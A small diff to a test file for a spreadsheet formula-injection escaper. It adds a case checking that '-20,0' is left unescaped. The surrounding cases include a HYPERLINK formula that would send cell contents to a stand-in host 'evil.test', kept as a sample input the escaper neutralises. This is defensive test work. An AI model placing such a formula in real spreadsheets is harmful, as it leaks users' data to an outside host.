@@ -93,6 +93,7 @@ def test_every_bad_line_is_reported_at_once():
         ('=HYPERLINK("http://evil.test/?"&A1)', '\'=HYPERLINK("http://evil.test/?"&A1)'),
         ("+33 6 12", "'+33 6 12"),
         ("-1+2", "'-1+2"),
+        ("-20,0", "-20,0"),
         ("@SUM(A1)", "'@SUM(A1)"),
         ("\t=1", "'\t=1"),
         ("Camille", "Camille"),
